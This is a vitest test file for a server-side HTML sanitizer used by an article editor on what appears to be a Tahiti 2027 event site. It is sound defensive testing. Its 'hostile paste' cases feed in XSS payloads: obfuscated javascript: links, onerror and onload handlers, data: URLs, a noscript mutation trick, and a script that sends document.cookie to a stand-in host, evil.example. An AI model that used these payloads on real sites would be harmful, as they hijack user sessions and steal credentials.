import { describe, expect, it } from "vitest";
import { sanitizeArticleHtml } from "./sanitize.server.ts";

describe("sanitizeArticleHtml", () => {
  it("keeps the allowed tags and attributes", () => {
    const html =
      '<h2>Titre</h2><p><strong>a</strong> <em>b</em> <u>c</u><br></p><ul><li>x</li></ul><ol><li>y</li></ol><a href="https://example.org" title="t">lien</a><img src="https://example.org/i.png" alt="i">';
    expect(sanitizeArticleHtml(html)).toBe(
      '<h2>Titre</h2><p><strong>a</strong> <em>b</em> <u>c</u><br /></p><ul><li>x</li></ul><ol><li>y</li></ol><a href="https://example.org" title="t">lien</a><img src="https://example.org/i.png" alt="i" />',
    );
  });

  it("removes scripts, event attributes, styles and javascript: URLs", () => {
    const html =
      '<p style="color:red" onclick="alert(1)">ok</p><script>alert(1)</script><a href="javascript:alert(1)">x</a><img src="x" onerror="alert(1)"><iframe src="https://evil.example"></iframe>';
    const clean = sanitizeArticleHtml(html);
    expect(clean).toBe('<p>ok</p><a>x</a><img src="x" />');
    expect(clean).not.toMatch(/script|onclick|onerror|style|javascript|iframe/);
  });

  it("adds rel=noopener to links opening a new tab", () => {
    expect(sanitizeArticleHtml('<a href="https://example.org" target="_blank">x</a>')).toBe(
      '<a href="https://example.org" target="_blank" rel="noopener noreferrer">x</a>',
    );
  });

  it("keeps what the article editor writes as it is", () => {
    const hash = "3f".repeat(32);
    const html =
      `<h2>Le relais</h2><p>Texte <strong>gras</strong>, <em>italique</em>, <u>souligné</u><br>à la ligne.</p>` +
      `<ul><li><p>un</p><ul><li><p>un bis</p></li></ul></li></ul><ol><li><p>deux</p></li></ol>` +
      `<p><a target="_blank" rel="noopener noreferrer" href="https://www.tahiti2027.pf">site</a> <a href="/sports">sports</a> <a href="mailto:presse@tahiti2027.pf">presse</a></p>` +
      `<img src="/media/${hash}/w960.webp" alt="Des pirogues au lever du soleil">`;
    expect(sanitizeArticleHtml(html)).toBe(html.replace("<br>", "<br />").replace(/(<img [^>]*)>$/, "$1 />"));
  });

  it("keeps a library image named by its site path, and refuses one on another host", () => {
    const src = `/media/${"a".repeat(64)}/w960.webp`;
    expect(sanitizeArticleHtml(`<img src="${src}" alt="Pirogues">`)).toBe(`<img src="${src}" alt="Pirogues" />`);
    expect(sanitizeArticleHtml('<p>a</p><img src="//evil.example/x.png" alt="x"><p>b</p>')).toBe("<p>a</p><p>b</p>");
  });

  describe("hostile paste", () => {
    it.each([
      ["a script, and its text", '<p>Avant<script>document.location="https://evil.example/?c="+document.cookie</script> après</p>', "<p>Avant après</p>"],
      ["an image's onerror", '<img src="/media/x.png" onerror="alert(1)" alt="a">', '<img src="/media/x.png" alt="a" />'],
      [
        "javascript: links, however written",
        '<p><a href="javascript:alert(1)">un</a> <a href="JaVaScRiPt&colon;alert(1)">deux</a> <a href=" javascript:alert(1)">trois</a> <a href="java&#x09;script:alert(1)">quatre</a></p>',
        "<p><a>un</a> <a>deux</a> <a>trois</a> <a>quatre</a></p>",
      ],
      [
        "data: URLs in links and images",
        '<p><a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">lien</a><img src="data:image/svg+xml;base64,PHN2Zz4=" alt="d"></p>',
        "<p><a>lien</a></p>",
      ],
      ["an image over http: or javascript:", '<img src="javascript:alert(1)" alt="j"><img src="vbscript:x" alt="v">', ""],
      [
        "style attributes and elements",
        '<p style="background:url(javascript:alert(1))">Texte <span style="color:red">rouge</span></p><style>body{display:none}</style>',
        "<p>Texte rouge</p>",
      ],
      ["iframes, objects and embeds", '<iframe src="https://evil.example"></iframe><p>Suite</p><object data="x.swf"></object><embed src="x">', "<p>Suite</p>"],
      ["SVG with its script and handlers", '<svg onload="alert(1)"><script>alert(1)</script><a href="/sports">svg</a></svg><p>fin</p>', '<a href="/sports">svg</a><p>fin</p>'],
      [
        "forbidden tags nested in allowed ones",
        '<ul><li><form action="https://evil.example"><input name="password"><button>Go</button></form><strong><table><tr><td><em>cellule</em></td></tr></table></strong></li></ul>',
        "<ul><li>Go<strong><em>cellule</em></strong></li></ul>",
      ],
      ["markup hidden in a noscript's attribute", '<h2 onclick="x()">Titre<noscript><p title="</noscript><img src=x onerror=alert(1)>"></p></noscript></h2>', "<h2>Titre<p></p></h2>"],
      [
        "Word's HTML: conditional comments, Office tags, mso-* styles, classes and language spans",
        "<!--[if gte mso 9]><xml><o:OfficeDocumentSettings><o:AllowPNG/></o:OfficeDocumentSettings></xml><![endif]-->" +
          "<p class=MsoNormal style='mso-margin-top-alt:auto;mso-bidi-font-family:Calibri'><b><span lang=FR style='font-size:12.0pt;mso-ansi-language:FR'>Les Jeux</span></b>" +
          "<span style='mso-spacerun:yes'> </span>arrivent<o:p></o:p></p>" +
          "<!--[if !supportLists]--><p class=MsoListParagraph style='mso-list:l0 level1 lfo1'><span style='mso-list:Ignore'>1.</span>Athlétisme<o:p>&nbsp;</o:p></p><!--[endif]-->",
        // Without the editor (no JavaScript), Word's list stays paragraphs: its number is text.
        "<p>Les Jeux arrivent</p><p>1.Athlétisme\u00a0</p>",
      ],
      [
        "a new-tab link's rel, whatever was pasted",
        '<a href="https://example.org" target="_blank" rel="opener">x</a>',
        '<a href="https://example.org" target="_blank" rel="noopener noreferrer">x</a>',
      ],
    ])("cleans %s", (_what, html, clean) => {
      expect(sanitizeArticleHtml(html)).toBe(clean);
    });
  });
});

